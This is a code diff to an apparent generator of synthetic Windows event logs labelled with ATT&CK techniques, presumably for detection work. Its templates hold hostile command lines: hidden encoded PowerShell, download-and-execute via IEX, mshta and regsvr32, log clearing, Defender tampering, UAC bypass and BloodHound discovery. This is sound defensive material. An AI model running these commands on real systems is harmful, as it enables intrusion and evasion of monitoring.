@@ -1,9 +1,9 @@
 """Event log files: execution, evasion, discovery, escalation and what calls home, each beside the day's work."""
 
-from generator.families.network.product_story import catalogue
+from generator.families.network.product_story import catalogue_in_parts
 from generator.families.windows.log_file_forms import FORMS
 
-catalogue("windows/log-files-execution", FORMS, r"""
+catalogue_in_parts("windows/log-files-execution", FORMS, r"""
 SS@T1059.001,T1027 Sysmon 1 | CommandLine=<<powershell -nop -w hidden -enc {long}{long}|powershell "IEX (New-Object Net.WebClient).DownloadString('http://{dga}/{word}.ps1')"|powershell -ep bypass -c $x=[Convert]::FromBase64String('{long}');[Reflection.Assembly]::Load($x)>> ; ParentImage=<<C:\Windows\explorer.exe|C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE|C:\Windows\System32\cmd.exe>> ; User={company}\{user}
 SS@T1218.005,T1059.005 Sysmon 1 | CommandLine=<<mshta http://{dga}/{word}.hta|wscript //e:vbscript C:\Users\{user}\AppData\Local\Temp\{word}.txt|mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -enc {long}"":close")>> ; ParentImage=<<C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE|C:\Windows\explorer.exe>> ; User={company}\{user}
 DE@T1218.010 Sysmon 1 | CommandLine=<<regsvr32 /s /n /u /i:http://{dga}/{word}.sct scrobj.dll|rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write()|rundll32 C:\Users\Public\{word}.dll,#1>> ; ParentImage=C:\Windows\System32\cmd.exe ; User={company}\{user}
@@ -30,7 +30,7 @@ BN App <<8003|8004>> | PolicyName=<<EXE|DLL>> ; RuleName=- ; FilePath=%OSDRIVE%\
 AE App <<8002|8003|8005>> | PolicyName=<<EXE|SCRIPT>> ; RuleName=(Default Rule) All files located in the Program Files folder ; FilePath=%PROGRAMFILES%\{word}\{word}.EXE ; Fqbn=O={word} GMBH ; TargetUser=S-1-5-21-{id}
 """)
 
-catalogue("windows/log-files-evasion", FORMS, r"""
+catalogue_in_parts("windows/log-files-evasion", FORMS, r"""
 LC@T1070.001 Sec 1102 | SubjectUserName={word} ; SubjectDomainName={company} ; SubjectLogonId=0x{hex}
 LC@T1070.001 Log 104 | SubjectUserName={user} ; SubjectDomainName={company} ; Channel=<<System|Security|Microsoft-Windows-PowerShell/Operational|Microsoft-Windows-Sysmon/Operational>> ; BackupPath=
 DE@T1562.001 Def <<5001|5010|5012>> | Product Name=Microsoft Defender Antivirus ; Product Version=4.18.{n}.{few}
@@ -58,7 +58,7 @@ AE Sysmon 1 | CommandLine=<<"C:\Windows\System32\mmc.exe" eventvwr.msc|fodhelper
 SY Sysmon 17 | EventType=CreatePipe ; PipeName=\<<chrome.sync.{id}|mojo.{n}.{id}|sqlquery|PSHost.{id}.{n}.DefaultAppDomain.powershell|LOCAL\{word}>> ; Image=C:\<<Program Files\Google\Chrome\Application\chrome.exe|Program Files\Microsoft SQL Server\sqlservr.exe|Windows\System32\WindowsPowerShell\v1.0\powershell.exe>> ; User={company}\{user}
 """)
 
-catalogue("windows/log-files-looking-and-calling", FORMS, r"""
+catalogue_in_parts("windows/log-files-looking-and-calling", FORMS, r"""
 DI@T1087.002,T1069.002 Sysmon 1 | CommandLine=<<net group "Domain Admins" /domain|nltest /domain_trusts /all_trusts|whoami /priv /groups|net user {adm} /domain>> ; ParentImage=C:\<<Users\{user}\AppData\Local\Temp\{word}.exe|Windows\System32\rundll32.exe|inetpub\wwwroot\w3wp.exe>> ; User={company}\{user}
 DI@T1018,T1482 PS 4104 | MessageNumber=1 ; MessageTotal=1 ; ScriptBlockText=<<Invoke-BloodHound -CollectionMethod All -ZipFileName {word}.zip|Get-DomainComputer -Unconstrained ¦ select dnshostname|Find-LocalAdminAccess -Threads 20|Invoke-ShareFinder -CheckShareAccess>> ; Path=
 DI@T1087.002 Sec 4799 | TargetUserName=Administrators ; TargetDomainName=Builtin ; SubjectUserName={user} ; CallerProcessName=C:\Users\{user}\<<Downloads|AppData\Local\Temp>>\<<SharpHound|{word}|adfind>>.exe
